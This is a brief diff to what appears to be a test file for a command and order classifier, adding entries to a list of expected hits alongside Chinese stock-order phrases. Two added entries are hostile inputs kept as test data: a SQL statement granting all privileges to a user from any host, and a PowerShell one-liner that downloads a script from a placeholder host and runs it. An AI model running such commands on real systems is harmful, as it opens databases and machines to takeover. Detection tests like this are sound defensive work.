@@ -8,6 +8,8 @@ from activities.rules.executable import find
 from tests.properties import stable
 
 HITS = [
+    ("GRANT ALL ON *.* TO 'bot'@'%'", "executable.sql"),
+    ("iwr http://x.example/a.ps1 | iex", "executable.shell"),
     ("以买一价12.35挂单300股贵州茅台", "order.zh"),
     ("盘口，买入300股茅台", "order.zh"),
     ("行情：立刻清仓", "order.zh"),
